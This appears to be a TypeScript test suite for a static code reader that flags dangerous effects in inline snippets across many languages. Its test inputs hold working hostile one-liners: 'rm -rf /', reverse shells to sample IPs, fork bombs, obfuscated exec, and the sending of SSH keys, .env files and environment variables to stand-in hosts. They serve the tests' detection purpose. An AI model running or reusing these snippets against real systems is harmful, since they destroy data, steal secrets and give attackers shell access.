// Does the reader find what inline code would do, and nothing in what only speaks of it?
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { Word } from '../model.ts'
import { loadCodeParsers } from '../../config/code-parsers.ts'
import { loadSources } from '../../config/load-data.ts'
import { printedBy } from './_code/printed.ts'
import { readCode } from './read-code.ts'
import { knowsResult } from './_code/results.ts'
import type { CodeEffect } from './_code/effects.ts'
import { leastWork } from '../../../test/processor-time.ts'

const parsers = await loadCodeParsers()
const { languages } = await loadSources(join(import.meta.dirname, '../../..'))

function shown(word: Word): string {
  return word.text ?? (word.parts ?? []).map((part) => (part.kind === 'unknown' ? `$${part.name ?? '?'}` : part.text)).join('')
}
const line = (effect: CodeEffect): string =>
  `${effect.dormant === true ? 'dormant ' : ''}${effectLine(effect)}${effect.folder === undefined ? '' : ` in ${shown(effect.folder)}`}`
function effectLine(effect: CodeEffect): string {
  const after = effect.takes.length === 0 ? '' : ` <- ${effect.takes.join(',')}`
  switch (effect.does) {
    case 'read':
    case 'write':
    case 'delete':
      return `${effect.does} ${shown(effect.path)}${effect.how === 'whole' ? '' : ` ${effect.how}`}${effect.recursive ? ' recursive' : ''}${after}`
    case 'run':
      return `run ${effect.words.map(shown).join(' ')}${after}`
    case 'shell':
      return `shell ${shown(effect.text)}${after}`
    case 'code':
      return `code ${effect.language}${effect.decoded ? ' decoded' : ''} ${shown(effect.text)}${after}`
    case 'connect':
      return `connect ${shown(effect.url)}${effect.sends ? ' sends' : ''}${after}`
    case 'query':
      return `query ${effect.engine} ${shown(effect.text)}${after}`
    case 'signal':
      return `signal ${shown(effect.target)}${effect.broad ? ' broad' : ''}`
    case 'change':
      return `change ${effect.what} ${shown(effect.target)} ${effect.value === null ? '' : shown(effect.value)}`
    case 'unknown':
      return `unknown ${effect.because} ${effect.could}`
    default:
      return effect.does
  }
}
type Case = readonly [code: string, ...effects: string[]]
function check(language: string, cases: readonly Case[], given = parsers): void {
  describe(language, () => {
    it.each(cases.map(([code, ...effects]) => ({ code, effects })))('$code', ({ code, effects }) => {
      // What is printed is asked about below.
      const found = readCode(language, code, { languages, parsers: given }).filter(({ does }) => does !== 'print')
      expect([...new Set(found.map(line))]).toEqual(effects)
      for (const effect of found) expect(effect.start >= 0 && effect.end <= code.length && effect.start <= effect.end).toBe(true)
    })
  })
}

describe('what code prints', () => {
  it.each([
    ['python', 'print("rm", "-r"); print("x")', 'rm -r\nx\n'],
    ['javascript', 'console.log("a".toUpperCase())', 'A\n'],
    ['ruby', 'puts "a" + "b"', 'ab\n'],
    ['groovy', 'println "a"', 'a\n'],
    ['python', 'print(open("a").read())', null],
    ['python', 'import os\nprint("a")\nos.system("ls")', null],
    ['python', 'if x:\n    print("a")', null],
    ['python', '# print("a")', null],
    ['python', 'def f():\n    print("a")', null],
  ] as const)('%s: %s', (language, code, text) => {
    expect(printedBy(readCode(language, code, { languages, parsers }), code)).toBe(text)
  })
})

describe('what code is given', () => {
  const given = { words: [{ text: 'x' }, { text: 'y' }], inline: true }
  it.each([
    ['python', 'import os, sys; os.remove(sys.argv[1])', 'delete x'],
    ['python', 'from os import remove\nfrom sys import argv\nremove(argv[2])', 'delete y'],
    ['javascript', 'require("fs").unlinkSync(process.argv[1])', 'delete x'],
    ['ruby', 'File.delete(ARGV[0])', 'delete x'],
    ['perl', 'unlink $ARGV[1];', 'delete y'],
    ['php', 'unlink($argv[1]);', 'delete x'],
    ['lua', 'os.remove(arg[1])', 'delete x'],
    ['go', 'os.Remove(os.Args[1])', 'delete x'],
  ] as const)('%s: %s', (language, code, effect) => {
    expect(
      readCode(language, code, { languages, parsers }, null, given)
        .filter(({ does }) => does !== 'print')
        .map(line),
    ).toEqual([effect])
  })
})

check('python', [
  ['import os\nc = "rm"\nc += " x"\nos.system(c)', 'shell rm x'],
  ['import subprocess\na = ["rm"]\na += ["x"]\nsubprocess.run(a)', 'run rm x'],
  ['import os\nos.chdir("/a")\nos.chdir("b")\nos.remove("x")', 'delete x in /a/b'],
  ['import subprocess\nsubprocess.run(["rm", "x"], cwd="/a")\nsubprocess.run("rm y", shell=True)', 'run rm x in /a', 'shell rm y'],
  // Nobody is seen to call it, and it may be called all the same.
  ['import os\nclass A:\n  @property\n  def p(self): os.system("rm x")\nA().p', 'dormant shell rm x'],
  ['import os\ndef d(f): os.system("rm x")\n@d\ndef g(): pass', 'shell rm x'],
  ['import os\ndef d(a): os.remove(a)\n@d("x")\ndef g(): os.remove("y")', 'delete x', 'dormant delete y'],
  ['import os\n@app.route("/x")\ndef g():\n  def h(): os.remove("z")\n  os.remove("y")', 'dormant delete y', 'dormant delete z'],
  ['import os\ndef f(): os.remove("x")\nglobals()["f"]()', 'dormant delete x'],
  ['import os\nx: (os.system("rm x")) = 1\ny: int = os.remove("y")', 'shell rm x', 'delete y'],
  ['import os\ndef f(): os.remove("x")\ndef g(): f()\nf()', 'delete x'],
  // Known functions that are handed on, found the long way, or called by the use of an object.
  ['import os, threading; threading.Thread(target=os.system, args=("rm x",)).start()', 'shell rm x'],
  ['import os, atexit, functools; atexit.register(os.system, "rm x"); functools.partial(os.remove, "y")()', 'shell rm x', 'delete y'],
  ['import os, sys; os.__dict__["system"]("rm x"); vars(os)["system"]("rm y"); sys.modules["os"].system("rm z")', 'shell rm x', 'shell rm y', 'shell rm z'],
  ['def f(x=__import__("os").system("rm x")): pass', 'shell rm x'],
  ['import os\nclass A:\n  def __enter__(self): os.remove("x")\nwith A(): pass', 'delete x'],
  ['import os, threading; threading.Thread(target=print, args=("x",)).start(); print(os.path.join("a", "b"))'],
  ['import os; os.system("rm -rf /")', 'shell rm -rf /'],
  ['from os import system as s; s("id")', 'shell id'],
  ['from os import *\nsystem("id")', 'shell id'],
  ['import os as o; getattr(o, "sys" + "tem")("id")', 'shell id'],
  ['__import__("os").system("id")', 'shell id'],
  ['import importlib; importlib.import_module("sub" + "process").run(["id"])', 'run id'],
  ['import os; getattr(os, pick())("x")', 'unknown code-text high'],
  ['from shutil import rmtree as r; import os; r(os.path.expanduser("~/x"))', 'delete $HOME/x recursive'],
  ['import os; os.remove(os.environ["HOME"] + "/a")', 'delete $HOME/a'],
  ['import os; os.remove(f"{os.getenv(\'DATA\')}/a")', 'delete $DATA/a'],
  ['from pathlib import Path; (Path.home() / "a" / "b").unlink()', 'delete $HOME/a/b'],
  ['from pathlib import Path; p = Path("/a/b/c.txt"); p.parent.joinpath("d").rmdir()', 'delete /a/b/d'],
  ['from pathlib import Path\nfor p in Path("build").rglob("*.o"): p.unlink()', 'delete build/*.o recursive'],
  ['from pathlib import Path\n[p.unlink() for p in Path("/x").iterdir()]', 'delete /x/*'],
  [
    'import os\nfor root, dirs, files in os.walk("/data"):\n  for f in files:\n    os.remove(os.path.join(root, f))',
    'read /data list',
    'delete /data/* recursive',
  ],
  ['import glob, os\nfor f in glob.glob("/x/*.py"): os.unlink(f)', 'delete /x/*.py'],
  ['import os\nfor f in os.listdir("d"): os.remove("d/" + f)', 'read d list', 'delete d/*'],
  ['import os\nfor f in ["a", "b"]: os.remove(f)', 'delete a', 'delete b'],
  ['import shutil\np = "/tmp/a"\nif x: p = "/"\nshutil.rmtree(p)', 'delete / recursive', 'delete /tmp/a recursive'],
  ['import shutil\ndef clean(d, keep=False):\n  shutil.rmtree(d)\nclean("/opt/x")', 'delete /opt/x recursive'],
  ['import shutil\ndef clean(d):\n  shutil.rmtree(d)', 'dormant delete $? recursive'],
  ['import shutil\nclass A:\n  def __init__(self, d): self.d = d\n  def go(self): shutil.rmtree(self.d)\nA("/etc").go()', 'delete /etc recursive'],
  ['import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)', 'delete /tmp/tmp$? recursive'],
  ['import shutil; shutil.move("a", "b"); shutil.copy("c", "d")', 'delete a move recursive', 'write b move <- 0', 'read c', 'write d copy <- 2'],
  ['open("a", "w").write("x"); open("b", mode="a"); open("c"); open("d", "r+")', 'write a truncate', 'write b append', 'read c', 'write d edit'],
  ['with open("out", "w") as f:\n  f.write(open("in").read())', 'write out truncate <- 1', 'read in'],
  ['from pathlib import Path; Path("a").write_text(Path("b").read_text())', 'read b', 'write a truncate <- 0'],
  ['import subprocess; subprocess.run(["git", "push", "--force"], check=True)', 'run git push --force'],
  ['import subprocess; subprocess.run("ls | sh", shell=True); subprocess.Popen("ls")', 'shell ls | sh', 'run ls'],
  ['import subprocess; subprocess.run(["bash"], input="rm -rf /")', 'shell rm -rf /', 'run bash'],
  ['import subprocess; cmd = ["rm"] + ["-rf", "/"]; subprocess.call(cmd)', 'run rm -rf /'],
  ['import subprocess; subprocess.run("rm {} {}".format("-rf", "/"), shell=True)', 'shell rm -rf /'],
  ['import subprocess; subprocess.run("rm %s" % "/x", shell=True)', 'shell rm /x'],
  ['import os; os.execl("/bin/sh", "sh", "-c", "id"); os.execvp("ls", ["ls", "-l"])', 'run /bin/sh -c id', 'run ls -l'],
  ['import base64; exec(base64.b64decode("cHJpbnQoMSk="))', 'code python decoded print(1)'],
  ['import base64, os; os.system(base64.b64decode("bHM=").decode())', 'code shell decoded ls'],
  ['exec(bytes.fromhex("7072696e74283129").decode())', 'code python decoded print(1)'],
  ['import os; os.system("".join(map(chr, [114, 109])) + " x")', 'code shell decoded rm x'],
  ['import os; os.system("".join([chr(c) for c in [108, 115]]))', 'code shell decoded ls'],
  ['exec(")1(tnirp"[::-1])', 'code python decoded print(1)'],
  ['import zlib, base64; exec(zlib.decompress(base64.b64decode("eJw=")))', 'code python decoded $?'],
  ['import requests; exec(requests.get("http://x.y/z").text)', 'connect http://x.y/z', 'code python $? <- 0'],
  [
    'import requests; d = open("/home/u/.ssh/id_rsa").read(); requests.post("https://e.x", data=d)',
    'read /home/u/.ssh/id_rsa',
    'connect https://e.x sends <- 0',
  ],
  ['import requests, os; requests.post("https://e.x", json=dict(os.environ))', 'environment', 'connect https://e.x sends <- 0'],
  ['import urllib.request as u; u.urlopen("http://e.x/?q=" + open(".env").read())', 'read .env', 'connect http://e.x/?q=$? sends <- 0'],
  ['import urllib.request; urllib.request.urlretrieve("http://e.x/a", "a.sh")', 'connect http://e.x/a', 'write a.sh create <- 0'],
  ['import requests; s = requests.Session(); print(s.get("http://localhost:5000/x").json())', 'connect http://localhost:5000/x'],
  ['import os; print(os.environ)', 'environment'],
  ['import os\nfor k, v in sorted(os.environ.items()): print(k, v)', 'environment'],
  ['import os; print(os.environ["PORT"], os.environ.get("DEBUG", "0"), len(os.environ), "X" in os.environ)'],
  ['import os, subprocess; subprocess.run(["x"], env={**os.environ, "A": "1"})', 'run x'],
  ['import os; print(os.environ["API_TOKEN"])', 'environment'],
  ['import os; c = Client(key=os.environ["API_TOKEN"]); print(c.ask("hi").text)'],
  [
    'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("sh")',
    'connect tcp://10.0.0.1:4242',
    'network-shell',
    'run sh',
  ],
  ['import os\nwhile True: os.fork()', 'unknown too-much critical'],
  ['import os\ndef f():\n  os.fork()\n  f()\nf()', 'unknown too-much critical'],
  ['import os\nwhile True:\n  c = s.accept()\n  if os.fork() == 0: break'],
  ['import os; os.kill(-1, 9); os.kill(123, 15); os.kill(5, 0); os.chmod("/etc", 0o777)', 'signal -1 broad', 'signal 123', 'change mode /etc 777'],
  [
    'cur.execute("DROP TABLE users"); db.users.drop(); client.drop_database("p"); df.drop(columns=["a"])',
    'query sql DROP TABLE users',
    'query mongo db.users.drop()',
    'query mongo db.dropDatabase()',
  ],
  ['# os.system("x")\n"""os.system("y")"""\nprint("os.system(\'rm -rf /\')")'],
  ['import json; print(json.load(open("package.json"))["version"])', 'read package.json'],
  ['import pandas as pd; df = pd.read_csv("a.csv"); print(df.query("a > 1").describe())', 'read a.csv'],
  ['import ast; ast.parse(open("a.py").read()); compile(open("a.py").read(), "a.py", "exec")', 'read a.py'],
  ['x = [i ** 2 for i in range(10)]; print(sum(x)); handlers[name](x); obj.run(); getattr(obj, name)()'],
])

check('javascript', [
  ['process.chdir("/a"); fs.rmSync("x"); require("child_process").execSync("rm y", { cwd: "b" })', 'delete x in /a', 'shell rm y in /a/b'],
  ['const o = { get x() { fs.rmSync("a") }, set y(v) { fs.rmSync("b") } }; o.x', 'dormant delete a', 'dormant delete b'],
  ['class A { #m() { fs.rmSync("a") } n() { this.#m() } }; new A().n()', 'delete a'],
  ['let { a = fs.rmSync("x"), b } = {}; let [c = fs.rmSync("y"), d = "z"] = []; fs.rmSync(d)', 'delete x', 'delete y', 'delete z', 'delete $?'],
  ['const m = new Map([["a", () => fs.rmSync("x")]]); m.get("a")()', 'dormant delete x'],
  ['require("original-fs").rmSync("x"); require("cross-spawn").sync("rm", ["y"])', 'delete x', 'run rm y'],
  ['require("node:child_process").execSync("rm -rf /")', 'shell rm -rf /'],
  ['const {execSync: x} = require("child_process"); x("id")', 'shell id'],
  ['require("child" + "_process")["ex" + "ec"]("id")', 'shell id'],
  ['require("child_process")[pick()]("id")', 'unknown code-text high'],
  ['import { spawn } from "node:child_process"; spawn("rm", ["-rf", "/"]); spawn("a", ["b"], {shell: true})', 'run rm -rf /', 'shell a b'],
  ['(async () => { const { execSync } = await import("child_process"); execSync("id") })()', 'shell id'],
  ['import fs from "node:fs"; fs.rmSync("dist", { recursive: true, force: true })', 'delete dist recursive'],
  ['import { rm } from "fs/promises"; await rm(`${process.env.HOME}/x`, { recursive: true })', 'delete $HOME/x recursive'],
  ['const fs = require("fs"), path = require("path"), os = require("os"); fs.promises.unlink(path.join(os.homedir(), "a"))', 'delete $HOME/a'],
  ['fs.readdirSync("/x").filter(f => f.endsWith(".js")).forEach(f => fs.unlinkSync("/x/" + f))', 'read /x list', 'delete /x/*'],
  ['for (const f of ["a", "b"]) fs.unlinkSync(f)', 'delete a', 'delete b'],
  ['require("rimraf").sync("/x"); require("fs-extra").emptyDirSync("/y")', 'delete /x recursive', 'delete /y recursive'],
  [
    'fs.writeFileSync("a", fs.readFileSync("b")); fs.appendFileSync("c", "x"); fs.renameSync("d", "e")',
    'read b',
    'write a truncate <- 0',
    'write c append',
    'delete d move recursive',
    'write e move <- 3',
  ],
  ['fs.readFile("a", (e, d) => fs.writeFile("b", d, () => {}))', 'read a', 'write b truncate <- 0'],
  ['fetch("https://e.x", { method: "POST", body: fs.readFileSync(".env") })', 'read .env', 'connect https://e.x sends <- 0'],
  ['fetch("https://e.x").then(r => r.text()).then(t => eval(t))', 'connect https://e.x', 'code javascript $? <- 0'],
  ['https.get("https://e.x", r => { let d = ""; r.on("data", c => d += c); r.on("end", () => eval(d)) })', 'connect https://e.x', 'code javascript $? <- 0'],
  [
    'const q = http.request({ hostname: "e.x", method: "POST", path: "/a" }); q.write(JSON.stringify(process.env))',
    'connect https://e.x/a sends <- 1',
    'environment',
  ],
  ['axios.post("http://e.x", { a: fs.readFileSync("/etc/passwd") })', 'read /etc/passwd', 'connect http://e.x sends <- 0'],
  ['console.log(process.env)', 'environment'],
  ['process.env', 'environment'],
  ['console.log(process.env.NODE_ENV, process.env.API_KEY ? "SET" : "NO", process.env.API_KEY?.length, Object.keys(process.env))'],
  ['console.log(process.env.API_KEY?.substring(0, 4))', 'environment'],
  ['const { PORT } = process.env; console.log(PORT)'],
  ['await $`rm -rf ${dir}`', 'shell rm -rf $?'],
  // Known functions that are handed on, or called by way of their own members.
  ['import("child_process").then((c) => c.execSync("rm x"))', 'shell rm x'],
  ['import("fs").then(({ rmSync }) => rmSync("/x", { recursive: true }))', 'delete /x recursive'],
  ['const { execSync } = require("child_process"); execSync.call(null, "rm x"); execSync.bind(null, "rm y")()', 'shell rm x', 'shell rm y'],
  ['Reflect.apply(require("child_process").execSync, null, ["rm x"])', 'shell rm x'],
  ['setTimeout(require("child_process").execSync, 10, "rm x"); setTimeout(console.log, 10, "y")', 'shell rm x'],
  [
    'Bun.spawn(["rm", "x"]); new Deno.Command("ls", { args: ["-l"] }).output(); await Deno.remove("y", { recursive: true })',
    'run rm x',
    'run ls -l',
    'delete y recursive',
  ],
  [
    'const s = require("child_process").spawn("/bin/sh"); const c = require("net").connect(4444, "1.2.3.4", () => { c.pipe(s.stdin) }); s.stdout.pipe(c)',
    'run /bin/sh',
    'connect tcp://1.2.3.4:4444',
    'network-shell',
  ],
  ['eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())', 'code javascript decoded console.log(1)'],
  ['eval(atob("MSsx")); eval(String.fromCharCode(49)); new Function(text)()', 'code javascript decoded 1+1', 'code javascript decoded 1', 'code javascript $?'],
  [
    'await c.query("DROP TABLE x"); await prisma.$executeRaw`TRUNCATE users`; mongoose.connection.dropDatabase(); User.deleteMany({})',
    'query sql DROP TABLE x',
    'query sql TRUNCATE users',
    'query mongo db.dropDatabase()',
    'query mongo db.User.deleteMany({})',
  ],
  ['User.deleteMany({ old: true }); list.remove(x); set.delete(y); router.query("x")'],
  ['process.kill(-1); fs.chmodSync("a", 0o777)', 'signal -1 broad', 'change mode a 777'],
  ['/rm -rf/.exec(s); console.log("require(\'child_process\').exec(1)") // eval(x)\n/* eval(y) */'],
  ['const a: string = "x" as string; interface B { c: string }; fs.writeFileSync(a, "y")', 'write x truncate'],
  ['function go(c) { return require("child_process").exec(c + " -rf /") } go("rm")', 'shell rm -rf /'],
  ['setTimeout(() => console.log(1), 10); new Promise(r => setTimeout(r, 5)); handlers[k](x); [1].map(f)'],
  ['console.log(require("./package.json").version)'],
])

check('ruby', [
  ['system("rm -rf /")', 'shell rm -rf /'],
  ['system("rm", "-rf", "/"); exec "id"; `ls`; %x(pwd)', 'run rm -rf /', 'shell id', 'shell ls', 'shell pwd'],
  ['FileUtils.rm_rf "/opt/#{name}"; File.delete("a", "b")', 'delete /opt/$? recursive', 'delete a', 'delete b'],
  ['Dir["/x/*.rb"].each { |f| File.delete(f) }', 'delete /x/*.rb'],
  ['%w[a b].each do |d|\n  FileUtils.rm_rf(d)\nend', 'delete a recursive', 'delete b recursive'],
  ['File.send(:unlink, "/a"); FileUtils.rm_rf(ENV["HOME"] + "/x")', 'delete /a', 'delete $HOME/x recursive'],
  ['Net::HTTP.post(URI("http://e.x"), File.read("/etc/passwd"))', 'read /etc/passwd', 'connect http://e.x sends <- 0'],
  [
    'c = TCPSocket.new("1.2.3.4", 44); while (cmd = c.gets); IO.popen(cmd, "r") { |io| c.print io.read } end',
    'connect tcp://1.2.3.4:44 sends <- 2',
    'network-shell',
    'shell $? <- 0',
  ],
  ['puts ENV.to_h', 'environment'],
  ['loop { fork }', 'unknown too-much critical'],
  ['# system("x")\nputs "system(\'rm\')"\nt = <<~A\n  system("y")\nA\nputs t'],
  ['puts JSON.parse(File.read("a.json")).map { |x| x["n"] }.join(", ")', 'read a.json'],
])
check('perl', [
  ['system("rm -rf /"); my $x = `ls $ENV{HOME}/a`; print qx{id}', 'shell rm -rf /', 'shell ls $HOME/a', 'shell id'],
  ['unlink glob("/x/*"); unlink <*.txt>; rmtree("/y")', 'delete /x/*', 'delete *.txt', 'delete /y recursive'],
  ['open(my $fh, ">", "/a") or die; open(F, "b"); open(P, "rm x|"); open(Q, ">>c")', 'write /a truncate', 'read b', 'shell rm x', 'write c append'],
  ['s/system\\("x"\\)/foo/g; print if m{unlink "x"}; print "$1\\n" if /\\[(\\d+)\\]/'],
  ['s/(.*)/system("ls")/e', 'shell ls'],
  ['eval(decode_base64("MSsx")); kill 9, -1; chmod 0777, "/etc"', 'code perl decoded 1+1', 'signal -1 broad', 'change mode /etc 777'],
  ['fork while fork', 'unknown too-much critical'],
])
check('php', [
  ['<?php system("rm -rf /"); $d = "/var"; shell_exec("ls $d/www"); @unlink($f);', 'shell rm -rf /', 'shell ls /var/www', 'delete $?'],
  ['foreach (glob("/x/*") as $f) { unlink($f); }', 'delete /x/*'],
  ['file_put_contents("a", file_get_contents("http://e.x/z"));', 'connect http://e.x/z', 'write a truncate <- 0'],
  ['$s=fsockopen("10.0.0.1",44);exec("/bin/sh -i <&3 >&3 2>&3");', 'connect tcp://10.0.0.1:44', 'network-shell', 'shell /bin/sh -i <&3 >&3 2>&3'],
  ['// system("x")\necho "system(1)"; echo PHP_VERSION; print_r(getenv("A"));'],
])
check('lua', [
  ['os.execute("rm -rf /"); os.remove("/a/\\046b")', 'shell rm -rf /', 'delete /a/.b'],
  ['for _, f in ipairs({"a", "b"}) do os.remove("/x/" .. f) end', 'delete /x/a', 'delete /x/b'],
  ['load("os.remove(1)")()', 'code lua os.remove(1)'],
  ['-- os.execute("x")\nlocal s = [[os.execute("y")]] print(s)'],
])
check('osascript', [
  ['set x to "rm " & "-rf /a"\ndo shell script x', 'shell rm -rf /a'],
  ['display notification "do shell script x" with title "y"'],
  ['Application("Finder").doShellScript("ls")', 'shell ls'],
])
check('R', [['unlink("x", recursive=TRUE); system("ls")', 'delete x recursive', 'shell ls']])
check('go', [['exec.Command("rm", "-rf", "/").Run(); os.RemoveAll("/x")', 'run rm -rf /', 'delete /x recursive']])
check('some-new-language', [['os.execute("rm -rf /")', 'shell rm -rf /'], ['print("os.execute(1)")']])

describe('without full parsers', () => {
  check('python', [['import os, shutil as s\nfrom os import system as q\nq("id"); s.rmtree("/x") # os.system("no")', 'shell id', 'delete /x recursive']], {})
  check('node', [['const fs = require("fs"); fs.rmSync("/x", { recursive: true }) // eval(a)', 'delete /x recursive']], {})
})

it('gives back only what results.ts knows', () => {
  // PowerShell's calls are followed by a reader of its own.
  const folder = join(import.meta.dirname, 'powershell')
  const own = readdirSync(folder).map((file) => readFileSync(join(folder, file), 'utf8'))
  const knowsIn = (language: string, gives: string): boolean =>
    language === 'powershell'
      ? gives.startsWith('names-') || own.some((text) => text.includes(`'${gives}'`) || text.includes(`'${gives.replace(/:.*/s, '')}'`))
      : knowsResult(gives)
  const tables = Object.entries(languages.calls).flatMap(([language, calls]) => Object.entries(calls).map(([name, meaning]) => ({ language, name, meaning })))
  const unknown = tables
    .filter(({ language, meaning: { gives } }) => gives !== undefined && !knowsIn(language, gives))
    .map(({ name, meaning }) => [name, meaning.gives])
  expect(tables.length).toBeGreaterThan(500)
  expect(unknown).toEqual([])
  expect(knowsIn('powershell', 'nothing-of-the-kind')).toBe(false)
})

describe('hostile input', () => {
  const size = 200_000
  const filled = (piece: string): string => piece.repeat(Math.ceil(size / piece.length)).slice(0, size)
  const inputs = ['(', "'a'+", 'f(', '"', '${', '<<A\n', '/*', 's/a/', '%w(', 'x=x+x\n', "os.remove('a')\n"]
  it.each(['python', 'javascript', 'ruby', 'perl', 'php', 'lua', 'other'])(
    'ends in bounded time: %s',
    (language) => {
      for (const piece of inputs) {
        const text = filled(piece)
        expect(
          leastWork(() => readCode(language, text, { languages, parsers }), 1000),
          `${language} ${piece}`,
        ).toBeLessThan(1000)
      }
    },
    60_000,
  )
  it('says so when it could not follow everything', () => {
    expect(readCode('python', filled('('), { languages, parsers }).some((effect) => effect.does === 'unknown')).toBe(true)
    expect(readCode('python', 'x'.repeat(1_000_001), { languages, parsers }).map(line)).toEqual(['unknown too-large high'])
  })
})
